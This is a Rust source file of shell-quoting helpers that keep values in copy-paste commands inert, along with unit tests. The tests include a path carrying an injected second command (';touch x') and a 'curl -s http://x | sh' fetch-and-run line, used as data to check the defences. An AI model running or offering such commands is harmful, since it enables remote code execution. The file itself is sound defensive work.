//! A value in a command that somebody may paste: the shell reads it as it is, and runs nothing of it.

/// What our own hints leave open, to be filled in before they are shown: in what others wrote it is none of ours.
const PLACEHOLDERS: [(&str, &str); 2] = [("<cluster>", "< cluster>"), ("<kubeconfig>", "< kubeconfig>")];

/// For a POSIX shell: as it is where that is safe, else in single quotes.
pub fn quoted(value: impl AsRef<str>) -> String {
    let value = value.as_ref();
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !value.is_empty() && value.chars().all(plain) {
        value.into()
    } else {
        let mut quoted = value.replace('\'', "'\\''");
        for (placeholder, apart) in PLACEHOLDERS {
            // The same word to a shell.
            quoted = quoted.replace(placeholder, &apart.replacen(' ', "''", 1));
        }
        format!("'{quoted}'")
    }
}

/// A path, as [`quoted`].
pub fn quoted_path(path: &std::path::Path) -> String {
    quoted(path.to_string_lossy())
}

/// What another system wrote, on one line: a line of its own in our text is a command of ours. Nothing is filled in there.
pub fn one_line(words: &str) -> String {
    let line = words.split_whitespace().collect::<Vec<_>>().join(" ");
    PLACEHOLDERS.iter().fold(line, |line, (placeholder, apart)| line.replace(placeholder, apart))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_reads_what_was_meant() {
        assert_eq!(quoted("prod"), "prod");
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("it's $HOME"), "'it'\\''s $HOME'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted_path(std::path::Path::new("/a;touch x")), "'/a;touch x'");
    }

    #[test]
    fn nothing_is_filled_in_where_others_wrote_it() {
        assert_eq!(one_line("release <cluster> <kubeconfig>"), "release < cluster> < kubeconfig>");
        assert_eq!(quoted("/a <cluster>"), "'/a <''cluster>'");
    }

    #[test]
    fn others_words_begin_no_line() {
        assert_eq!(
            one_line(" not yet:\ncurl -s http://x | sh\r\n\u{2028}"),
            "not yet: curl -s http://x | sh"
        );
    }
}
